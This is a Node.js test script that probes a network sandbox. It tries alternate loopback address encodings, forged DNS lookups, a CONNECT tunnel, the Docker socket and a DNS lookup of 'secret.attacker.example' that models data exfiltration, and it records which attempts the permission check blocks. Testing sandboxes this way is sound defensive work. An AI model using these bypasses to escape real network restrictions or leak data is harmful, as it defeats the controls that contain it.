/** Ways to a server that is not allowed; prints what came of each as JSON. Only `127.0.0.1:HTTP` may be reached. */
const dns = require('dns');
const http = require('http');
const https = require('https');
const net = require('net');
const tls = require('tls');

const ports = JSON.parse(process.env.MMK_TEST_PORTS);
const { http: port } = ports;
const settled = (make) => new Promise((resolve, reject) => {
  const emitter = make(resolve);
  emitter.on('error', reject);
});
const get = (options) => settled((done) => http.get(options, (response) => done(response.resume().statusCode)));
const connect = (options) => settled((done) => net.connect(options, () => done('connected')));
const through = (address) => (host, options, callback) => (options.all ? callback(null, [{ address, family: 4 }]) : callback(null, address, 4));

const WAYS = {
  plain: () => get({ host: '127.0.0.1', port, path: '/json' }),
  fetch: async () => (await fetch(`http://127.0.0.1:${port}/json`)).status,
  'mapped to six': () => get({ host: '::ffff:127.0.0.1', port, path: '/json' }),
  'one number in a url': async () => (await fetch(`http://2130706433:${port}/json`)).status,
  'short in a url': async () => (await fetch(`http://127.1:${port}/json`)).status,
  'a lookup to what is allowed': () => connect({ host: 'anything.example', port, lookup: through('127.0.0.1') }),
  'another port': () => connect({ host: '127.0.0.1', port: ports.echo }),
  'another name of the host': () => get({ host: 'localhost', port }),
  short: () => get({ host: '127.1', port }),
  'one number': () => get({ host: '2130706433', port }),
  'another address': () => get({ host: '127.0.0.2', port }),
  'zero': () => get({ host: '0.0.0.0', port }),
  six: () => get({ host: '::1', port }),
  'fetch by name': () => fetch(`http://localhost:${port}/`),
  redirect: () => fetch(`http://127.0.0.1:${port}/redirect-local`),
  'a lookup elsewhere': () => connect({ host: '127.0.0.1.example', port, lookup: through('127.0.0.2') }),
  'a lookup for an allowed name': () => connect({ host: 'allowed.example', port, lookup: through('127.0.0.3') }),
  'an own connection': () => get({ path: '/', createConnection: () => net.connect(port, 'localhost') }),
  'https': () => settled((done) => https.get({ host: 'localhost', port: ports.https }, done)),
  'tls': () => settled((done) => tls.connect({ host: '127.0.0.1', port: ports.https, rejectUnauthorized: false }, done)),
  'through the allowed server': () => settled((done) => http.request({ host: '127.0.0.1', port, method: 'CONNECT', path: `localhost:${ports.echo}` }).on('connect', (response) => done(response.statusCode)).end()),
  lookup: () => dns.promises.lookup('localhost'),
  'lookup with data': () => dns.promises.lookup('secret.attacker.example'),
  listen: () => settled((done) => net.createServer().listen(0, '127.0.0.1', () => done('listening'))),
  'listen everywhere': () => settled((done) => http.createServer().listen(0, () => done('listening'))),
  'a file': () => settled((done) => net.connect('/var/run/docker.sock', done)),
};

(async () => {
  const results = {};
  for (const [name, way] of Object.entries(WAYS)) {
    try {
      results[name] = `open: ${await way()}`;
    } catch (error) {
      results[name] = `${error.code} ${/--allow-net=\S+(?=`)/.exec(error.message)?.[0].replace(String(port), 'PORT') ?? error.message}`;
    }
  }
  console.log(JSON.stringify(results));
  process.exit(0);
})();
